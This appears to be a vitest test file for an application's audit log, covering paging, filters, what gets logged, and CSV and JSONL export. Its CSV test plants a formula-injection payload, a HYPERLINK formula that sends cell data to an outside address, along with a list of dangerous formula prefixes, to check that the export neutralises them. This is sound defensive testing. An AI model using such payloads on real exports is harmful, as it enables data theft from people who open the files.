import {
  addProject,
  addShare,
  addSpace,
  auditActions,
  deleteProject,
  deleteSpace,
  exportAudit,
  importOpenApi,
  languages,
  pageAudit,
  restoreTrash,
  revokeShare,
  updateProject,
  updateSpace,
} from '@lectern/contracts'
import { describe, expect, it } from 'vitest'
import { buildUser } from '../../../../test/factories/build-people.ts'
import { buildModule, buildSpace } from '../../../../test/factories/build-places.ts'
import { useTestApp } from '../../../../test/support/test-app.ts'
import { anonymous } from '../../../core/actor.ts'
import { recordAudit, recordAudits } from '../../../core/audit.ts'
import { encodeId } from '../../../core/public-ids.ts'
import { csvField } from '../../../core/csv.ts'
import { useSuperAdmin } from '../../../../test/support/use-built.ts'

const test = useTestApp()
const root = useSuperAdmin(test)

const record = (name: string, address = '192.0.2.9'): Promise<void> =>
  test.db
    .transaction()
    .execute((tx) =>
      recordAudit(
        tx,
        { actor: anonymous, address, userAgent: 'test' },
        { action: 'user.signInFailed', subject: { kind: 'user', name }, details: { reason: 'login_failed' } },
        test.now(),
      ),
    )

const page = async (body: object = {}) => {
  const answer = await test.call(pageAudit, { body }, root)
  return answer.data ?? { list: [], next: null, total: null }
}

describe('the log', () => {
  it('tells who did what to which object, from where, newest first', async () => {
    const user = await buildUser(test, { username: 'actor' })
    const made = await test.call(addSpace, { body: { name: 'Logged' } }, user)
    const [entry] = (await page()).list
    expect(entry).toMatchObject({
      atMs: test.now(),
      actor: { id: user.publicId, name: 'ACTOR' },
      action: 'space.create',
      subject: { kind: 'space', id: made.data?.id, name: 'Logged' },
      space: { id: made.data?.id, name: 'Logged' },
      address: '127.0.0.1',
    })
  })

  it('goes back page by page without counting twice', async () => {
    for (let index = 1; index <= 5; index += 1) await record(`paging ${String(index)}`)
    const first = await page({ keyword: 'PAGING', pageSize: 2 })
    expect(first.total).toBe(5)
    expect(first.list.map((entry) => entry.subject.name)).toEqual(['paging 5', 'paging 4'])
    const second = await page({ keyword: 'paging', pageSize: 2, before: first.next })
    expect(second).toMatchObject({ total: null })
    const third = await page({ keyword: 'paging', pageSize: 2, before: second.next, severity: 'warning' })
    expect(third.list.map((entry) => entry.subject.name)).toEqual(['paging 1'])
    expect(third.next).toBeNull()
  })

  it('filters by person, group, object, space, time and text', async () => {
    const [user, space] = [await buildUser(test), await buildSpace(test, { name: 'Filtered' })]
    test.advance(60_000)
    const fromMs = test.now()
    await test.call(updateSpace, { body: { id: space.publicId, description: 'x' } }, space.owner)
    await test.call(addSpace, { body: { name: 'Elsewhere' } }, user)
    test.advance(60_000)
    const actionsOf = async (body: object) => (await page({ fromMs, ...body })).list.map((entry) => entry.action)
    expect(await actionsOf({ actorId: user.publicId })).toEqual(['space.create'])
    expect(await actionsOf({ spaceId: space.publicId })).toEqual(['space.update'])
    expect(await actionsOf({ kind: 'space', subjectId: space.publicId })).toEqual(['space.update'])
    expect(await actionsOf({ group: 'space' })).toEqual(['space.create', 'space.update'])
    expect(await actionsOf({ group: 'spac' })).toEqual([])
    await test.call(deleteSpace, { body: { id: space.publicId } }, space.owner)
    await record('Elsewhere')
    expect(await actionsOf({ severity: 'info' })).toEqual(['space.create', 'space.update'])
    expect(await actionsOf({ severity: 'warning' })).toEqual(['user.signInFailed', 'space.delete'])
    expect(await actionsOf({ severity: 'warning', spaceId: space.publicId })).toEqual(['space.delete'])
    expect(await page({ fromMs, severity: 'critical' })).toMatchObject({ list: [], total: 0 })
    expect((await page({ fromMs, severity: 'warning' })).total).toBe(2)
    expect(await actionsOf({ keyword: 'elsewh', severity: 'info' })).toEqual(['space.create'])
    expect(await actionsOf({ toMs: fromMs })).toEqual([])
    expect((await test.call(pageAudit, { body: { actorId: encodeId('space', 1) } }, root)).error).toBe('not_accessible')
  })
})

describe('what is logged', () => {
  it('names each change of spaces, projects and shares, old over new, and nothing that stayed', async () => {
    const module = await buildModule(test)
    const { owner, project } = module
    const fromMs = test.now()
    const spaceId = project.space.publicId
    await test.call(updateSpace, { body: { id: spaceId, orderIndex: 5 } }, owner)
    const made = await test.call(addProject, { body: { spaceId, name: 'Noted' } }, owner)
    const id = made.data?.id ?? ''
    await test.call(updateProject, { body: { id, name: 'Renamed', isPrivate: 0 } }, owner)
    const deleted = await test.call(deleteProject, { body: { id } }, owner)
    await test.call(restoreTrash, { body: { id: deleted.data?.trashId ?? '' } }, owner)
    const share = await test.call(
      addShare,
      { body: { moduleId: module.publicId, type: 2, isAll: 1, password: 'very-secret-word' } },
      owner,
    )
    await test.call(revokeShare, { body: { id: share.data?.id ?? '' } }, owner)
    const content = JSON.stringify({ openapi: '3.1.0', info: { title: 'T', version: '1' }, paths: {} })
    await test.call(importOpenApi, { body: { projectId: project.publicId, content, fileName: 'a.json' } }, owner)
    const { list } = await page({ fromMs, spaceId })
    expect(list.map((entry) => entry.action).reverse()).toEqual([
      'project.create',
      'project.update',
      'project.open',
      'project.delete',
      'project.restore',
      'share.create',
      'share.revoke',
      'import.start',
    ])
    const renamed = list.find((entry) => entry.action === 'project.update')
    expect(JSON.parse(renamed?.details ?? '')).toEqual({ changes: { name: { from: 'Noted', to: 'Renamed' } } })
    expect(JSON.stringify(list)).not.toContain('very-secret-word')
  })

  it('holds nothing of a change that was refused', async () => {
    const space = await buildSpace(test, { name: 'Taken name' })
    await test.call(addSpace, { body: { name: 'Taken name' } }, space.owner)
    expect((await page({ keyword: 'Taken name' })).total).toBe(0)
  })
})

describe('the export', () => {
  const exported = async (query: object, language?: string) => {
    const response = await test.send(
      exportAudit,
      { query },
      { ...root, ...(language === undefined ? {} : { language }) },
    )
    expect(response.headers['content-disposition']).toContain('attachment; filename="audit-')
    return response.body
  }

  it('writes CSV for spreadsheets that runs no formula, in the reader’s language', async () => {
    await record('=HYPERLINK("http://192.0.2.1/?"&A1)', '203.0.113.7')
    const text = await exported({ format: 'csv', keyword: '203.0.113.7' }, 'en')
    const [head = '', line = ''] = text.split('\r\n')
    expect(head.startsWith('\ufeffnumber,time,actor')).toBe(true)
    expect(line).toContain(`"'=HYPERLINK(""http://192.0.2.1/?""&A1)"`)
    expect(line).toContain('failed to sign in')
    for (const dangerous of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r=1'])
      expect(csvField(dangerous), dangerous).toMatch(/^"?'/)
    expect(csvField('plain, text')).toBe('"plain, text"')
    expect(csvField('plain')).toBe('plain')
  })

  it('writes one JSON object per line, oldest first, over many pieces, and is itself in the log', async () => {
    await test.db.transaction().execute((tx) =>
      recordAudits(
        tx,
        { actor: anonymous, address: '198.51.100.1', userAgent: 'test' },
        Array.from({ length: 1_203 }, (_, index) => ({
          action: 'user.signInFailed' as const,
          subject: { kind: 'user', name: `many ${String(index)}` },
        })),
        test.now(),
      ),
    )
    const lines = (await exported({ format: 'jsonl', keyword: '198.51.100.1' })).trimEnd().split('\n')
    expect(lines).toHaveLength(1_203)
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ severity: 'warning' })
    const query = { format: 'jsonl', keyword: '198.51.100.1' }
    expect(await exported({ ...query, severity: 'warning' })).toBe(lines.map((line) => `${line}\n`).join(''))
    expect(await exported({ ...query, severity: 'info' })).toBe('')
    // Each line is a JSON object by what the presenter writes.
    const numbers = lines.map((line) => (JSON.parse(line) as { number: number }).number)
    expect(numbers).toEqual([...numbers].sort((a, b) => a - b))
    expect((await page()).list[0]).toMatchObject({
      action: 'audit.export',
      severity: 'warning',
      actor: { id: root.publicId },
    })
    expect((await page({ keyword: '198.51.100.1', pageSize: 1 })).total).toBe(1_203)
  })
})

it('has a sentence for every act in every language', () => {
  for (const language of languages) {
    const wordless = auditActions.filter((action) => test.context.texts.say(language, 'audit', action) === action)
    expect(wordless, language).toEqual([])
  }
})
